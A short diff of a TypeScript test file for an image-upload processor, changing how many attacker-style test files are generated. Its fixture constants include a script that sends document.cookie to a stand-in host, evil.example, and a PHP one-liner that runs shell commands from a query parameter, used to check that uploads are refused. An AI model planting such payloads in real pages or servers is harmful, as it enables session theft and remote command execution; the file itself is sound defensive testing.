@@ -2,9 +2,10 @@ import { crc32, deflateSync, gzipSync } from 'node:zlib'
 import sharp, { type Sharp } from 'sharp'
 import { beforeAll, describe, expect, test } from 'vitest'
 import { PictureRefused, processPicture, restrictDecoders } from './pictures.server.ts'
+import { often } from '../testing/often.ts'
 
 /** Files as an attacker, or an old phone, would send them; made here, none is fetched. test:deep makes 400. */
-const COUNT = process.env.TEST_DEEP === '1' ? 400 : 60
+const COUNT = often(60, 400)
 
 const SCRIPT = '<script>fetch("https://evil.example/"+document.cookie)</script>'
 const PHP = '<?php system($_GET["c"]); ?>'
